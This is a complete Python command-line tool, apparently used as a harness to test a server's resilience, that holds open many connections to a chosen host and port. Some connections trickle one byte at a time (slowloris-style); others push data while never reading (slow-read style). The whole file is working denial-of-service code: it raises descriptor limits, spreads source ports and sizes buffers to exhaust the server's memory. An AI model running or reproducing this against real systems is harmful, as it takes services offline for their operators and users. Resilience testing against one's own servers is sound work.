#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Clients that occupy a server's resources and never finish anything.

Slow ones (--slow N) send one byte every --every seconds each. Deaf ones (--deaf N) send as much as the socket accepts
and read nothing. Prints `ready N` once N connections are open, and on SIGTERM one JSON object with its counts."""

import argparse
import itertools
import json
import resource
import signal
import socket
import time

DEAF_SNDBUF = 65536  # per socket: a thousand of them must use up the server's memory, not the machine's
IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h; if bind(2) chose the ports, there would be too few for a second run


class Attack:
    def __init__(self, options):
        self.o = options
        self.did = {"connected": 0, "slow_bytes": 0, "deaf_bytes": 0, "deaf_stuck": 0, "ended": 0}
        self.stop = False
        signal.signal(signal.SIGTERM, self.on_term)

    def on_term(self, *_):
        self.stop = True

    def connect(self, n, deaf):
        sockets = []
        for _ in range(n):
            s = socket.socket()
            if deaf:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, DEAF_SNDBUF)
            if self.o.source:
                s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                s.bind((self.o.source, 0))
            self.did["connected"] += 1
            try:
                s.connect((self.o.host, self.o.port))
            except ConnectionResetError:  # already refused
                self.did["ended"] += 1
                s.close()
                continue
            s.setblocking(False)
            sockets.append(s)
        return sockets

    def send(self, s, data, key):
        try:
            self.did[key] += s.send(data)
        except BlockingIOError:
            pass
        except OSError:
            self.did["ended"] += 1
            s.close()

    def push(self, deaf):
        """Sends until no socket has accepted anything for half a second, or for 5 s."""
        block, begin = bytes(65536), time.monotonic()
        last = begin
        while time.monotonic() < min(last + 0.5, begin + 5) and not self.stop:
            before = self.did["deaf_bytes"]
            for s in deaf:
                if s.fileno() >= 0:
                    self.send(s, block, "deaf_bytes")
            if self.did["deaf_bytes"] > before:
                last = time.monotonic()
            time.sleep(0.02)
        self.did["deaf_stuck"] = sum(s.fileno() >= 0 for s in deaf)

    def drip(self, slow):
        """Sends one byte from each in turn, evenly spread: independent clients do not send at the same time."""
        turns, begin, n_sent = itertools.cycle(slow), time.monotonic(), 0
        while not self.stop:
            n_due = int(len(slow) * (time.monotonic() - begin) / self.o.every)
            for s in itertools.islice(turns, n_due - n_sent):
                if s.fileno() >= 0:
                    self.send(s, b"x", "slow_bytes")
            n_sent = n_due
            time.sleep(0.001)

    def run(self):
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        slow, deaf = self.connect(self.o.slow, False), self.connect(self.o.deaf, True)
        self.push(deaf)
        print("ready", self.did["connected"], flush=True)
        self.drip(slow)
        print(json.dumps(self.did), flush=True)


parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
parser.add_argument("host")
parser.add_argument("port", type=int)
parser.add_argument("--source", default="", metavar="ADDRESS")
parser.add_argument("--slow", type=int, default=0, metavar="N")
parser.add_argument("--every", type=float, default=10, metavar="S")
parser.add_argument("--deaf", type=int, default=0, metavar="N")
Attack(parser.parse_args()).run()
